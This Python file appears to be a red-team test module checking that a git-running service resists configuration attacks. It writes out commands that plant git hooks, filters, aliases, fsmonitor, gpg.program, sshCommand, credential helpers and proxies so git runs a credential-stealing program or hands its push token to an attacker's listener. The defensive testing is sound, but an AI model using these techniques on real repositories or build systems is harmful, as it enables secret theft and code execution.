"""What a git configuration can make git run: planted from the workbench, to be run where the secrets are."""

from __future__ import annotations

import base64
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import partial
from typing import Any

from boardhand_api import ssh
from boardhand_runner import remote, repository
from boardhand_runner.settings import Settings
from testbed.redteam.attack import Attack, Outcome
from testbed.redteam.guards import (
    Switch,
    attack,
    git_unset,
    git_writable,
    replaced,
    run_configuration_for_all,
    under,
)
from testbed.redteam.lures import listening
from testbed.redteam.raid import GIT_TOKEN, THIEF, WORK, Field, Raid, run, stolen

HOOKS = ("pre-commit", "post-commit", "post-index-change", "reference-transaction", "pre-push", "commit-msg")
PLANT_HOOKS = "h=$(git rev-parse --git-path hooks); mkdir -p $h; " + "; ".join(
    f"cp {THIEF} $h/{name}" for name in HOOKS
)
MOUNT = "the git directory is mounted read-only in the workbench"
READ_ONLY = "Read-only file system"
MARKED = "echo '* filter=evil diff=evil' >.gitattributes"
ALIASES = ("add", "commit", "push", "diff", "checkout-index")
REMOTE = "file://@ROOT@/repository.git"
OWN = "publish reads no configuration of the run's repository"
ONCE = "once the git directory could be written"
Breach = tuple[Switch, ...]
OPEN: Breach = (git_writable,)
WIDE_OPEN: Breach = (git_writable, run_configuration_for_all)
ELSEWHERE = "@LOOT@/evil.git"


def attacks() -> list[Attack]:
    """Every attack of this theme."""
    return [*_kept_out(), *_overruled(), *_on_the_way()]


def planted(*settings: str, first: str = "true") -> Raid:
    """A raid that writes these settings, each a name and a value, into the run's git configuration."""
    written = [f"git config {one}" for one in settings]
    return Raid([run("; ".join([first, *written])), WORK], stolen)


def _kept_out() -> list[Attack]:
    """The configuration cannot be written."""
    evil = f"git clone -q --bare . {ELSEWHERE}"
    included = f"printf '[filter \"evil\"]\\n\\tclean = {THIEF}\\n' >evil.cfg; {MARKED}"

    def kept_out(name: str, wants: str, raid: Raid, **more: Any) -> Attack:
        return attack(name, wants, lambda: Raid(raid.does, raid.reached, READ_ONLY), MOUNT, git_writable, **more)

    return [
        attack(
            "hook-in-the-git-folder",
            "a hook that runs beside the secrets",
            lambda: Raid([run(PLANT_HOOKS), WORK], stolen, READ_ONLY),
            short=True,
        ),
        kept_out(
            "filter-in-the-config",
            "a clean filter that git add runs beside the secrets",
            planted(f"filter.evil.clean {THIEF}", first=MARKED),
            short=True,
        ),
        kept_out(
            "include-path-in-the-config",
            "a configuration from the work tree",
            planted("include.path @ROOT@/work/evil.cfg", first=included),
        ),
        attack(
            "url-insteadof-where-the-git-folder-is-open",
            f"the push, at a repository of the attacker's, {ONCE}",
            lambda: replace(planted(f"url.file://{ELSEWHERE}.insteadOf {REMOTE}", first=evil), reached=_elsewhere),
            OWN,
            run_configuration_for_all,
            breach=OPEN,
        ),
        attack(
            "alias-in-the-config",
            "an alias in the place of git's own commands",
            lambda: planted(
                *(f"alias.{name} '!{THIEF}'" for name in ("add", "commit", "push", "diff", "checkout-index"))
            ),
            breach=OPEN,
        ),
    ]


def _elsewhere(seen: Field) -> bool:
    command = ["git", "-C", str(seen.loot / "evil.git"), "cat-file", "-e", str(seen.result.commit)]
    return subprocess.run(command, capture_output=True, check=False).returncode == 0


def _overruled() -> list[Attack]:
    """The configuration could be written, and git is told otherwise."""

    def overruled(name: str, wants: str, raid: Raid, guard: str, off: Switch, breach: Breach = OPEN) -> Attack:
        wants = f"{wants}, {ONCE}"
        return attack(f"{name}-where-the-git-folder-is-open", wants, lambda: raid, guard, off, breach=breach)

    ext = f"ext::{THIEF}"
    return [
        overruled(
            "hook",
            "a hook beside the secrets",
            Raid([run(PLANT_HOOKS), WORK], stolen),
            "core.hooksPath is /dev/null",
            git_unset("core.hooksPath"),
        ),
        overruled(
            "fsmonitor",
            "core.fsmonitor",
            planted(f"core.fsmonitor {THIEF}"),
            "core.fsmonitor is false",
            git_unset("core.fsmonitor"),
        ),
        overruled(
            "gpg-program",
            "gpg.program when the work is committed",
            planted(f"gpg.program {THIEF}", "commit.gpgSign true"),
            "commit.gpgSign is false",
            git_unset("commit.gpgSign"),
        ),
        overruled(
            "diff-external",
            "diff.external and textconv",
            planted(
                f"diff.external {THIEF}", f"diff.evil.textconv {THIEF}", first="echo '* diff=evil' >.gitattributes"
            ),
            "diffs are asked for without external programs",
            replaced(repository, "_PLAIN", ("--no-color",)),
        ),
        overruled(
            "ext-transport",
            "a program as the way to the remote",
            planted("protocol.ext.allow always", f"'url.{ext}.insteadOf' {REMOTE}"),
            "GIT_ALLOW_PROTOCOL names the protocols",
            replaced(remote, "_checked", lambda address: (f"file://{address}", "ext:file")),
            WIDE_OPEN,
        ),
    ]


def _on_the_way() -> list[Attack]:
    """What git runs or tells on its way to the server."""
    return [
        Attack(
            "credential-helper-where-the-git-folder-is-open",
            f"credential.helper asked for the push's credentials, {ONCE}",
            partial(_asked_for_credentials),
            partial(_asked_for_credentials, git_unset("credential.helper")),
            "credential.helper is emptied",
        ),
        Attack(
            "proxy-where-the-git-folder-is-open",
            f"the push's token, through a proxy of the attacker's, {ONCE}",
            _through_a_proxy,
            partial(_through_a_proxy, run_configuration_for_all),
            OWN,
            short=True,
        ),
        attack(
            "ssh-command-where-the-git-folder-is-open",
            f"core.sshCommand on the way to the server, {ONCE}",
            _by_ssh,
            "GIT_SSH_COMMAND is set",
            _without_ssh_command,
            breach=WIDE_OPEN,
        ),
    ]


def _asked_for_credentials(*off: Switch) -> Outcome:
    with listening() as heard:
        raid = Raid(planted(f"credential.helper {THIEF}").does, stolen, ordered={"repository": f"{heard.url}/shop.git"})
        return under(raid, *WIDE_OPEN, *off)


def _through_a_proxy(*off: Switch) -> Outcome:
    token = base64.b64encode(f"bot:{GIT_TOKEN}".encode()).decode()
    with listening() as heard:
        does = planted(f"http.proxy {heard.url}").does
        raid = Raid(does, lambda _: heard.has(token), ordered={"repository": "http://forge.invalid/shop.git"})
        return under(raid, *OPEN, *off)


def _by_ssh() -> Raid:
    def keys(settings: Settings) -> None:
        # No key at all, but the form of one without a passphrase.
        (settings.git_secret / ssh.KEY).write_text(f"-----BEGIN OPENSSH-----\n{ssh._OPEN}\n-----END OPENSSH-----\n")
        (settings.git_secret / ssh.KNOWN_HOSTS).write_text("forge.invalid ssh-ed25519 AAAA\n")

    does = planted(f"core.sshCommand {THIEF}").does
    return Raid(does, stolen, before=keys, ordered={"repository": "ssh://git@127.0.0.1:9/shop.git"})


@contextmanager
def _without_ssh_command() -> Iterator[None]:
    made = ssh.Identity.environment

    @contextmanager
    def changed(identity: ssh.Identity) -> Iterator[dict[str, str]]:
        with made(identity) as environment:
            yield {name: value for name, value in environment.items() if name != "GIT_SSH_COMMAND"}

    with replaced(ssh.Identity, "environment", changed)():
        yield
